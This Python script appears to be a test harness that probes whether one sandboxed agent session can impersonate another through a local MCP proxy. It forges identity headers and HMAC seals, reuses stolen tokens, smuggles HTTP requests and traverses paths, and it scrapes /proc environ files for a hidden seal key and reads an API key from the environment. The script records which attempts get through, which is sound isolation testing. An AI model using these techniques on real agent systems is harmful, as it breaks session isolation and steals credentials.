"""Speaks for another session, by every means that a process in a box has.

    python3 forge.py INPUT OUTPUT

INPUT tells what no box should know of another: its ids, its token, its key for seals. OUTPUT gets, by the name of each
attempt, what was answered, and whether something stood there under names that are only Callsign's to write. The tool
that an attempt calls is called after it, so that it can be found again wherever it arrived.
"""
import base64
import hashlib
import hmac
import json
import os
import socket
import sys
import time

PATIENCE = 5
PORT = 4098
SOCKET = "/run/callsign/mcp.sock"
with open(sys.argv[1]) as file:
    INPUT = json.load(file)
VICTIM = INPUT["victim"]
TOKEN = json.loads(os.environ["OPENCODE_CONFIG_CONTENT"])["provider"]["openai"]["options"]["apiKey"]
ATTEMPTS = {}


def own_seal_key():
    """The agent's own, as it was started with: the plugin has taken it out of its environment since."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                variables = dict(part.split(b"=", 1) for part in file.read().split(b"\0") if b"=" in part)
        except OSError:
            continue
        if b"CALLSIGN_SEAL_KEY" in variables:
            return variables[b"CALLSIGN_SEAL_KEY"].decode()
    return None


SEAL = own_seal_key()


def plain(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def sealed(key, tool, server="std", at=0, **who):
    payload = {
        "call": "call_forged",
        "tool": f"{server}_{tool}",
        "directory": VICTIM["workspace"],
        "at": int(time.time() * 1000) + at,
        "nonce": plain(os.urandom(18)),
        **who,
    }
    text = "v1." + plain(json.dumps(payload).encode())
    secret = base64.urlsafe_b64decode(key + "=" * (-len(key) % 4))
    return f"{text}.{plain(hmac.new(secret, text.encode(), hashlib.sha256).digest())}"


def speak(data, way="tcp"):
    stream = socket.socket(socket.AF_INET if way == "tcp" else socket.AF_UNIX)
    stream.settimeout(PATIENCE)
    said = b""
    try:
        stream.connect(("127.0.0.1", PORT) if way == "tcp" else way)
        stream.sendall(data)
        while len(said) < 1 << 20 and (piece := stream.recv(1 << 16)):
            said += piece
    except OSError as error:
        said = said or str(error).encode()
    finally:
        stream.close()
    return said


def note(name, said, forged):
    line = said.split(b"\r\n")[0].decode(errors="replace")
    status = int(line[9:12]) if line.startswith("HTTP/1.1 ") else 0
    body = said.split(b"\r\n\r\n", 1)[-1].decode(errors="replace")
    ATTEMPTS[name] = {"status": status, "said": body[:300], "forged": forged}


def head(path, headers, length, host="127.0.0.1:4098"):
    lines = [f"POST {path} HTTP/1.1", f"Host: {host}", "Connection: close", "Content-Type: application/json"]
    lines += ["Accept: application/json, text/event-stream", f"Content-Length: {length}"]
    return "\r\n".join([*lines, *(f"{name}: {value}" for name, value in headers), "", ""]).encode()


def message(method, params, number=1):
    return {"jsonrpc": "2.0", "id": number, "method": method, "params": params}


def called(tool, arguments=None, meta=None):
    """One call of a tool, of the new era."""
    params = {"name": tool, "arguments": arguments or {}, "_meta": {**INPUT["meta"], **(meta or {})}}
    return message("tools/call", params)


def attempt(name, forged=False, headers=(), *, path="/mcp/std", way="tcp", token=TOKEN, host=None, raw=None, **said):
    """`said`: the arguments and the `_meta` of the call; `raw`: a whole body instead."""
    tool = f"forge-{name}"
    body = raw or json.dumps(called(tool, **said)).encode()
    all_headers = [("MCP-Protocol-Version", "2026-07-28"), ("Mcp-Method", "tools/call"), ("Mcp-Name", tool)]
    if token:
        all_headers.append(("Authorization", f"Bearer {token}"))
    start = head(path, all_headers + list(headers), len(body), host or "127.0.0.1:4098")
    note(name, speak(start + body, way), forged)


def by_headers():
    ours = {
        "Callsign-Session": VICTIM["session"],
        "Callsign-Thread": VICTIM["thread"],
        "Callsign-Parent": VICTIM["thread"],
        "Callsign-Host": "opencode",
        "Callsign-Workspace": VICTIM["workspace"],
        "Callsign-Assertion": "eyJhbGciOiJub25lIn0.e30.",
        "Callsign-Principal": "admin",
        "Callsign-Settings": "e30=",
    }
    for name, value in ours.items():
        attempt(f"header-{name.lower()}", True, [(name, value)])
    attempt("headers-of-ours", True, list(ours.items()))
    attempt("header-in-capitals", True, [("CALLSIGN-SESSION", VICTIM["session"])])
    attempt("header-twice", True, [("callsign-session", VICTIM["session"])] * 2)
    for name in ("X-Session-Id", "X-OpenCode-Session", "X-Callsign-Session", "Session-Id", "X-Forwarded-For"):
        attempt(f"header-{name.lower()}", False, [(name, VICTIM["session"])])


def by_meta():
    identity = {"host": "callsign", "session": VICTIM["session"], "thread": VICTIM["thread"], "trust": "bound"}
    attempt("meta-identity", True, meta={"dev.callsign/identity": identity})
    attempt("meta-assertion", True, meta={"dev.callsign/assertion": "eyJhbGciOiJub25lIn0.e30."})
    attempt("meta-in-capitals", True, meta={"Dev.Callsign/Identity": identity})
    attempt("meta-session", True, meta={"callsign-session": VICTIM["session"]})
    attempt("meta-opencode", True, meta={"sessionID": VICTIM["thread"]})
    attempt("meta-opencode-subagent", True, meta={"sessionID": VICTIM["subagent"]})
    attempt("meta-opencode-session", True, meta={"sessionID": VICTIM["session"]})
    codex = {"threadId": VICTIM["thread"], "sessionId": VICTIM["session"], "callId": "call_forged"}
    client = {"name": "codex-mcp-client", "version": "1"}
    attempt("meta-codex", meta=codex)
    attempt("meta-codex-client", meta={**codex, "io.modelcontextprotocol/clientInfo": client})
    attempt("meta-goose", meta={"agent-session-id": VICTIM["session"], "agent-working-dir": VICTIM["workspace"]})
    attempt("meta-claude", meta={"claudecode/toolUseId": "toolu_forged"})
    attempt("meta-vscode", meta={"vscode.conversationId": VICTIM["thread"]})
    workspace = VICTIM["workspace"]
    attempt("meta-workspace", meta={"orbit": {"workspace": workspace}, "orbit.workspace": workspace})
    trace = "00-" + "a" * 32 + "-" + "b" * 16 + "-01"
    attempt("meta-trace", meta={"traceparent": trace, "baggage": f"session={VICTIM['session']}"})


def by_arguments():
    attempt("argument-session", arguments={"session_id": VICTIM["session"], "workspace": VICTIM["workspace"]})
    attempt("argument-nested", True, arguments={"deep": [{"__callsign": "v1.e30.x"}]})
    attempt("argument-in-capitals", True, arguments={"__CALLSIGN": "v1.e30.x"})


def by_seals():
    def by_seal(name, key=SEAL, sealed_as=None, server="std", at=0, **who):
        seal = sealed(key, sealed_as or f"forge-{name}", server, at, **who)
        attempt(name, True, arguments={"__callsign": seal})
        return seal

    own = INPUT["own"]["thread"]
    by_seal("seal-thread", session=VICTIM["thread"])
    by_seal("seal-subagent", session=VICTIM["subagent"])
    by_seal("seal-session", session=VICTIM["session"])
    by_seal("seal-parent", session=own, parent=VICTIM["thread"])
    by_seal("seal-root-and-parent", session=own, parent=VICTIM["thread"], root=VICTIM["session"])
    by_seal("seal-of-the-victims-key", key=VICTIM["seal"], session=VICTIM["thread"])
    by_seal("seal-of-the-victims-key-for-itself", key=VICTIM["seal"], session=own)
    by_seal("seal-of-no-key", key=plain(bytes(32)), session=VICTIM["thread"])
    by_seal("seal-of-another-server", server="web", session=own)
    by_seal("seal-of-another-tool", sealed_as="echo", session=own)
    by_seal("seal-of-tomorrow", at=86_400_000, session=own)
    by_seal("seal-of-last-week", at=-7 * 86_400_000, session=own)
    attempt("seal-of-nothing", True, arguments={"__callsign": "v1..", "a": 1})
    attempt("seal-that-is-no-text", True, arguments={"__callsign": {"session": VICTIM["session"]}})
    # The same call twice. A seal is one call's and one tool's, so both are noted under one name.
    once = sealed(SEAL, "forge-seal-replayed", session=own)
    for _ in range(2):
        attempt("seal-replayed", arguments={"__callsign": once})
    payload = {"session": VICTIM["thread"], "tool": "std_forge-seal-unsigned", "at": 0, "nonce": "x" * 24}
    attempt("seal-unsigned", True, arguments={"__callsign": "v1." + plain(json.dumps(payload).encode())})
    # Two of one name: the first is its own, the second is not.
    tool = "forge-seal-twice"
    seals = [sealed(SEAL, tool, session=session) for session in (own, VICTIM["thread"])]
    two = "{" + ",".join(f'"__callsign":"{seal}"' for seal in seals) + "}"
    attempt("seal-twice", True, raw=json.dumps(called(tool, {"two": 0})).replace('{"two": 0}', two).encode())


def by_tokens():
    attempt("token-of-the-victim", token=VICTIM["token"])
    attempt("token-of-the-daemon", token=INPUT["daemon_token"])
    attempt("token-of-nobody", token="x" * 32)
    attempt("token-none", token=None)
    attempt("token-none-by-the-socket", token=None, way=SOCKET)
    attempt("token-of-the-victim-by-the-socket", token=VICTIM["token"], way=SOCKET)
    attempt("token-twice", headers=[("Authorization", f"Bearer {VICTIM['token']}")])
    attempt("token-in-the-path", token=None, path=f"/mcp/std?token={VICTIM['token']}")


def by_sessions():
    """The session of the old era that the victim has opened."""
    body = json.dumps(message("tools/call", {"name": "forge-mcp-session", "arguments": {}})).encode()
    for name, token in (("mcp-session", TOKEN), ("mcp-session-and-token", VICTIM["token"])):
        headers = [("Mcp-Session-Id", VICTIM["mcp_session"]), ("MCP-Protocol-Version", "2025-11-25")]
        said = speak(head("/mcp/std", [*headers, ("Authorization", f"Bearer {token}")], len(body)) + body)
        note(name, said, False)
    # A session of its own that says at its start that it is another's.
    start = {
        "protocolVersion": "2025-11-25",
        "capabilities": {},
        "clientInfo": {"name": "opencode", "version": "1"},
        "_meta": {
            "orbit": {"workspace": VICTIM["workspace"]},
            "dev.callsign/identity": {"session": VICTIM["session"]},
            "threadId": VICTIM["thread"],
        },
    }
    body = json.dumps(message("initialize", start)).encode()
    own = [("Authorization", f"Bearer {TOKEN}")]
    said = speak(head("/mcp/std", [*own, ("Callsign-Session", VICTIM["session"])], len(body)) + body)
    note("initialize", said, True)
    lines = said.split(b"\r\n\r\n")[0].decode(errors="replace").split("\r\n")
    found = [line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("mcp-session-id:")]
    if found:
        body = json.dumps(message("tools/call", {"name": "forge-initialized", "arguments": {}}, 2)).encode()
        headers = [*own, ("Mcp-Session-Id", found[0]), ("MCP-Protocol-Version", "2025-11-25")]
        note("initialized", speak(head("/mcp/std", headers, len(body)) + body), False)


def by_addresses():
    attempt("host", host="evil.example")
    attempt("host-of-the-daemon", host=INPUT["daemon"])
    attempt("origin", headers=[("Origin", "https://evil.example")])
    attempt("forwarded", headers=[("Forwarded", "for=127.0.0.1"), ("X-Real-IP", "127.0.0.1")])
    for name, path in {
        "server-hidden": "/mcp/hidden",
        "server-sessions": "/mcp/sessions",
        "server-none": "/mcp/none",
        "server-around": "/mcp/std/../hidden",
        "server-slashes": "//mcp//hidden",
        "server-escaped": "/mcp/%68idden",
        "server-absolute": "http://callsign/mcp/hidden",
        "server-query": "/mcp/std?server=hidden",
        "server-of-the-victim": f"/sessions/{VICTIM['session']}/mcp/std",
    }.items():
        attempt(name, path=path)
    token = f"Authorization: Bearer {TOKEN}\r\n"
    for path in ("/", "/healthz", "/metrics", "/login", "/api/sessions", "/.well-known/jwks.json", "/mcp", "/sessions"):
        said = speak(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n{token}\r\n".encode())
        note(f"page {path}", said, False)


def by_the_wire():
    attempt("by-the-socket", way=SOCKET)
    attempt("by-the-socket-with-headers", True, [("Callsign-Session", VICTIM["session"])], way=SOCKET)
    for name in ("control.sock", "model.sock", "egress.sock"):
        attempt(f"by-{name}", way=f"/run/callsign/{name}")
    # One request with two lengths, the second of which hides another request.
    inner = json.dumps(called("forge-smuggled")).encode()
    victims = [("Authorization", f"Bearer {VICTIM['token']}"), ("Callsign-Session", VICTIM["session"])]
    body = b"0\r\n\r\n" + head("/mcp/std", victims, len(inner)) + inner
    headers = [("Authorization", f"Bearer {TOKEN}"), ("Transfer-Encoding", "chunked")]
    note("smuggled", speak(head("/mcp/std", headers, len(body)) + body), True)
    attempt("batch", raw=json.dumps([called("forge-batch")] * 2).encode())
    escaped = json.dumps(called("forge-escaped-name", {"__callsign": "v1.x.y"}))
    attempt("escaped-name", True, raw=escaped.replace("__callsign", "\\u005f_callsign").encode())


attempt("control")
by_headers()
by_meta()
by_arguments()
by_seals()
by_tokens()
by_sessions()
by_addresses()
by_the_wire()
with open(sys.argv[2] + ".new", "w") as file:
    json.dump({"attempts": ATTEMPTS, "knows_its_key": SEAL is not None}, file)
os.rename(sys.argv[2] + ".new", sys.argv[2])
